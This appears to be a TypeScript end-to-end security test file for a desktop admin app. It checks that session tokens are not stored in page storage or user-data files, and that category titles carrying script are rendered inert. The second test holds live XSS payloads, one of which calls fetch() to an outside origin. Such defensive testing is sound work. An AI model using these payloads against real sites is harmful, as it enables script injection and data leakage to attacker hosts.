import { lstatSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { owner } from '../../fixtures/admin-host.ts'
import { asColleague } from '../../fixtures/as-colleague.ts'
import { makeToken } from '../../fixtures/tokens.ts'
import { LoginPage } from '../../pages/login-page.ts'
import { attempt, expect, test } from './hostile.ts'

/** The files of a folder that hold a text, plain or as Chromium's storage may write it. */
const filesWith = (folder: string, text: string): readonly string[] =>
  readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .map((name) => join(folder, name))
    .filter((path) => lstatSync(path).isFile())
    .filter((path) => {
      const bytes = readFileSync(path)
      return bytes.includes(text) || bytes.includes(Buffer.from(text, 'utf16le'))
    })

/** All that a page could have kept. */
const STORED = `JSON.stringify([
  document.cookie, Object.entries(localStorage), Object.entries(sessionStorage), history.state, document.documentElement.outerHTML,
  (await indexedDB.databases()).map(({ name }) => name), await caches.keys().catch(() => []), await desktop.invoke('session:restore', null),
])`

for (const keychain of ['works', 'absent', 'locked', 'hanging'] as const) {
  test(`of somebody who signs in is in no file and nowhere in the page; the keychain ${keychain}`, async ({
    launch,
    person,
    product,
  }) => {
    const app = await launch({ server: product.origin, keychain })
    const page = app.page()
    const login = new LoginPage(page)
    await expect(login.submit).toBeVisible()
    const answer = `desktop.invoke('api:send', {
      method: 'POST', template: '/api/auth/login', params: {}, query: {},
      headers: { Accept: 'application/json', 'Content-Type': 'application/json' },
      body: ${JSON.stringify(JSON.stringify({ email: owner.email, password: owner.password }))},
    })`
    const told = String(await attempt(page, `JSON.stringify(await ${answer})`))
    expect(told).toContain(owner.email)
    expect(told).not.toMatch(/eyJ[\w-]+\.|token/i)

    await login.signIn(owner)
    await expect(page.getByRole('navigation', { name: 'Разделы' })).toBeVisible()
    // Every token of ours begins like this.
    const beginning = makeToken().split('.')[0] ?? ''
    expect(String(await attempt(page, STORED))).not.toContain(beginning)
    await app.end()
    expect(filesWith(person.userData, beginning)).toEqual([])
    expect(person.key(product.origin)?.startsWith(beginning)).toBe(keychain === 'works' ? true : undefined)
  })
}

test('is not had by a title that somebody has written a script into', async ({
  signedIn: { app, page },
  product,
  elsewhere,
}) => {
  const colleague = asColleague(product.origin)
  const titles = [
    `<img src=x onerror="fetch('${elsewhere.origin}/'+1);window.hacked=1">`,
    '<script>window.hacked=1</script>',
    `"><svg onload="window.hacked=1">`,
    'javascript:window.hacked=1',
  ]
  const made = await Promise.all(titles.map((title) => colleague.category.create({ body: { title } })))
  await app.open('/admin/categories')
  for (const title of titles) await expect(page.getByText(title, { exact: true })).toBeVisible()
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined()
  expect(elsewhere.seen).toEqual([])
  for (const { id } of made.map((each) => ('value' in each ? each.value : each))) {
    await colleague.category.remove({ params: { id } })
  }
})
